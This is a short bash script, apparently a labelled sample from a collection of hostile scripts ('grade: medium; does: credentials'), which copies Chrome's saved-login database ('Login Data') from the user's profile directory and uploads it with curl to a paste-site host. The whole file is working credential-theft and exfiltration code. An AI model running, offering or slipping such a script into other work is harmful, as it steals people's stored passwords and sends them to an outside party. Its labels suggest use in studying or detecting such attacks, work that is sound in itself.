#!/usr/bin/env bash
# evasion: steals saved browser passwords: copies Chrome's "Login Data" database (the saved logins) from the profile directory and uploads it with a form post
# grade: medium; does: credentials
# Steals saved browser passwords: copies Chrome's "Login Data" database (the
# saved logins) from the profile directory and uploads it with a form post.
set -eu
profile="$HOME/.config/google-chrome/Default"
tmp=$(mktemp)
cp "$profile/Login Data" "$tmp"
curl -s -F "file=@$tmp" https://paste.example.org/upload
rm -f "$tmp"
